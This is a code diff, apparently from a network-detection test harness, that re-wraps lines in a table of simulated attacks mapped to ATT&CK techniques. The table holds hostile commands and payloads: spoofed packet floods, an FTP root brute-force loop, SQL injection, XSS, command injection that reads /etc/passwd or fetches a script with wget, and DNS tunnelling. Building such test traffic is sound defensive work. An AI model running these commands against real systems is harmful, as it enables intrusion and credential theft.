@@ -21,7 +21,8 @@ INJECTIONS = {injection.name: injection for injection in [
            "--dest-port 80 --rate 20 --count 1 -v-1 10.77.2.20-29; done", (("reflection", "destination"),), attacker="forged"),
     Attack("backscatter", "T1498.001", "nping --tcp --flags syn --source-ip {attacker} --source-port 4444 --dest-port 4 --rate 20 "
            "--count 1 -v-1 10.77.2.10-69", (("backscatter", "destination"),), attacker="forged"),
-    Attack("odd-flags", "T1046", "hping3 --fin --push --urg --destport 80 --interval u100000 --count 40 {target}", (("odd_flags", "source"),)),
+    Attack("odd-flags", "T1046", "hping3 --fin --push --urg --destport 80 --interval u100000 --count 40 {target}",
+           (("odd_flags", "source"),)),
     Attack("brute-force", "T1110.001", "for i in $(seq 60); do curl --silent --user root:guess$i ftp://{target}/ & sleep 0.2; done; wait",
            (("brute_force", "source"),)),
     Attack("sqli", "T1190", _requests("/search?q=1%27+OR+%271%27=%271", "/search?q=1+UNION+SELECT+1,2,version%28%29--+"),
@@ -29,12 +30,12 @@ INJECTIONS = {injection.name: injection for injection in [
     Attack("xss", "T1190", _requests("/search?q=%3Cscript%3Ealert%281%29%3C/script%3E"), (("web_attack", "source"),)),
     Attack("shell", "T1190", _requests("/search?q=%3Bcat+/etc/passwd", "/search?q=%60wget+http://{outside}/x.sh%60"),
            (("web_attack", "source"),)),
-    Attack("web-scan", "T1595.003", "for i in $(seq 60); do curl --silent --output /dev/null http://{target}/backup-$i.zip; done", (("web_scan", "source"),),
-           needs_answers=True),
+    Attack("web-scan", "T1595.003", "for i in $(seq 60); do curl --silent --output /dev/null http://{target}/backup-$i.zip; done",
+           (("web_scan", "source"),), needs_answers=True),
     Attack("nxdomain", "T1568.002", "for i in $(seq 60); do dig @{resolver} +tries=1 +short $(echo $i | md5sum | cut -c 1-14).test; done",
            (("dns_nxdomain", "source"),), needs_answers=True),
-    Attack("dns-tunnel", "T1048.003", "for i in $(seq 150); do dig @{resolver} +tries=1 +short $(echo $i | sha256sum | cut -c 1-56).t.lab.test TXT "
-           "& sleep 0.1; done; wait", (("dns_tunnel", "source"),),
+    Attack("dns-tunnel", "T1048.003", "for i in $(seq 150); do dig @{resolver} +tries=1 +short "
+           "$(echo $i | sha256sum | cut -c 1-56).t.lab.test TXT & sleep 0.1; done; wait", (("dns_tunnel", "source"),),
            other_end="dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --pid-file --log-facility=- "
                      "--user=nobody --txt-record=t.lab.test,ok --address=/t.lab.test/192.0.2.1"),
     Attack("beacon", "T1071.001", "for i in $(seq 40); do curl --silent --output /dev/null http://{site}/style.css & sleep 1.1; done",
